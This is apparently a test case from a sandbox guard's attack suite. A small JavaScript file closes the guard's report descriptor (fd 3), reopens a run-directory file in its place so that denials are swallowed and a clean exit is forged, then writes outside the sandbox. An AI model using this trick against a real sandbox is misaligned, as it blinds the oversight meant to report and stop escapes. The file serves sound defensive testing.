/* @attack {"title": "hijack the report channel: close fd 3 and reopen a run-dir file so it gets fd 3; the guard's denials land in that file, and a forged clean exit is written to the runner"} */
import fs from 'node:fs';
const dir = process.env.SLEEVE_RUN_DIR;
fs.closeSync(3);
const fd = fs.openSync(`${dir}/swallowed.ndjson`, 'w');
process.stderr.write(`reopened as fd ${fd}\n`);
fs.writeFileSync(`${process.env.OUTSIDE}/x`, 'the denial goes into my own file\n');
